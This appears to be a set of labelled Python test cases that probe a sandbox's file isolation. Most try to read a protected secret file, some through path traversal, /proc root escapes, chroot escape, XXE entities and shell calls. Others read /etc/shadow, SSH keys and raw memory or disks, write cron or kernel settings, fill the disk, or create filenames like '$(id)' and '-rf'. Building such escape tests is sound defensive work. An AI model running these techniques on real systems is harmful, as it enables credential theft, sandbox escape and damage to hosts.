# == read_the_secret
open(secret_file).read()
# == read_it_as_bytes
open(secret_file, "rb").read()
# == read_it_by_descriptor
import os
os.read(os.open(secret_file, os.O_RDONLY), 1000)
# == read_it_by_pathlib
import pathlib
pathlib.Path(secret_file).read_text()
# == read_it_by_linecache
import linecache
linecache.getlines(secret_file)
# == read_it_by_fileinput
import fileinput
list(fileinput.input(secret_file))
# == map_it_into_memory
import mmap, os
mmap.mmap(os.open(secret_file, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:]
# == copy_it_here
import shutil
shutil.copy(secret_file, "here")
open("here").read()
# == link_to_it
import os
os.symlink(secret_file, "link")
open("link").read()
# == link_to_it_hard
import os
os.link(secret_file, "hard")
open("hard").read()
# == link_to_its_folder
import os
os.symlink(os.path.dirname(secret_file), "folder")
open("folder/" + os.path.basename(secret_file)).read()
# == climb_with_dots
open("../" * 30 + secret_file.lstrip("/")).read()
# == climb_from_the_library
import os
open(os.path.dirname(os.__file__) + "/.." * 20 + secret_file).read()
# == through_the_root_of_the_first_process
open("/proc/1/root" + secret_file).read()
# == through_the_root_of_every_process
import os
found = []
for number in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{number}/root{secret_file}").read())
    except OSError:
        pass
found
# == through_the_folder_of_the_host
open(f"/proc/{host}/cwd/../../../../../../../..{secret_file}").read()
# == through_open_descriptors
import os
found = []
for number in range(300):
    try:
        found.append(os.readlink(f"/proc/self/fd/{number}"))
        found.append(open(f"/proc/self/fd/{number}").read(10))
    except (OSError, ValueError):
        pass
found
# == relative_to_open_descriptors
import os
for number in range(300):
    try:
        print(open(os.open(secret_file.lstrip("/"), os.O_RDONLY, dir_fd=number)).read())
    except OSError:
        pass
# == change_folder_first
import os
os.chdir("/")
os.chdir(os.path.dirname(secret_file))
open(os.path.basename(secret_file)).read()
# == change_root_first
import os
os.mkdir("jail")
os.chroot("jail")
os.chdir("../../../../../..")
open(secret_file).read()
# == by_url
import urllib.request
urllib.request.urlopen("file://" + secret_file).read()
# == by_sqlite
import sqlite3
sqlite3.connect(secret_file).execute("select * from sqlite_master").fetchall()
# == attach_by_sqlite
import sqlite3
sqlite3.connect(":memory:").execute("attach database ? as other", [secret_file])
# == by_import
import sys, os, importlib.machinery
importlib.machinery.SourceFileLoader("secret", secret_file).load_module()
# == by_traceback
compile("1/0", secret_file, "exec")
exec(compile("1/0", secret_file, "exec"))
# == by_syntax_error
import runpy
runpy.run_path(secret_file)
# == by_tokenize
import tokenize
list(tokenize.generate_tokens(open(secret_file).readline))
# == by_subprocess
import subprocess
subprocess.run(["cat", secret_file], capture_output=True).stdout
# == by_shell
import os
os.popen("cat " + secret_file).read()
# == by_xml_entity
import xml.sax, xml.sax.handler
class Keep(xml.sax.handler.ContentHandler):
    text = ""
    def characters(self, text):
        self.text += text
keep, parser = Keep(), xml.sax.make_parser()
parser.setFeature(xml.sax.handler.feature_external_ges, True)
parser.setContentHandler(keep)
import io
parser.parse(io.StringIO(f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{secret_file}">]><a>&b;</a>'))
keep.text
# == by_c_library
import ctypes
c = ctypes.CDLL(None)
file = c.open(secret_file.encode(), 0)
buffer = ctypes.create_string_buffer(100)
c.read(file, buffer, 100), buffer.value
# == passwords_of_the_host
[open(name).read() for name in ("/etc/shadow", "/etc/passwd")]
# == keys_of_the_host
import glob
[open(name).read() for name in glob.glob("/home/*/.ssh/*") + glob.glob("/var/run/secrets/**", recursive=True)]
# == write_into_the_library
import os
open(os.__file__, "a").write("\nimport this")
# == write_a_module_that_shadows
import sys
for folder in sys.path + ["/"]:
    try:
        open(f"{folder}/guest_session.py", "w").write("raise SystemExit")
    except OSError:
        pass
# == write_to_the_host
for name in ("/etc/cron.d/x", "/tmp/../etc/x", "/var/tmp/x", "/dev/shm/x", "/run/x"):
    try:
        open(name, "w").write("x")
    except OSError:
        pass
# == memory_of_the_host
open(f"/proc/{host}/mem", "rb").read(100)
# == memory_of_the_machine
[open(name, "rb").read(10) for name in ("/dev/mem", "/dev/kmem", "/proc/kcore")]
# == disks_of_the_machine
[open(name, "rb").read(512) for name in ("/dev/sda", "/dev/vda", "/dev/nvme0n1")]
# == settings_of_the_kernel
open("/proc/sys/kernel/core_pattern", "w").write("|/bin/false")
# == endless_device
open("/dev/zero", "rb").read()
# == waiting_for_a_pipe
import os
os.mkfifo("pipe")
open("pipe").read()
# == fill_the_disk
with open("big", "wb") as big:
    while True:
        big.write(b"x" * (1 << 20))
# == fill_the_disk_with_names
number = 0
while True:
    open(f"file{number}", "w").close()
    number += 1
# == a_file_full_of_holes
with open("holes", "wb") as holes:
    holes.truncate(1 << 40)
# == names_that_are_long
open("x" * 100_000, "w")
# == names_with_lines_and_zeros
import os
for name in (b"a\nb", b"\xff\xfe", b"-rf", b"$(id)", b"a b", "\u202e.txt".encode()):
    open(name, "w").close()
open("a\0b", "w")
# == folders_that_are_deep
import os
for _ in range(2000):
    os.mkdir("d")
    os.chdir("d")
# == folders_that_cannot_be_entered
import os
for name in "abc":
    os.makedirs(f"{name}/inner")
    open(f"{name}/inner/file", "w").close()
    os.chmod(f"{name}/inner", 0)
    os.chmod(name, 0)
# == folders_in_a_circle
import os
os.mkdir("a")
os.symlink("..", "a/up")
sum(1 for _ in os.walk(".", followlinks=True))
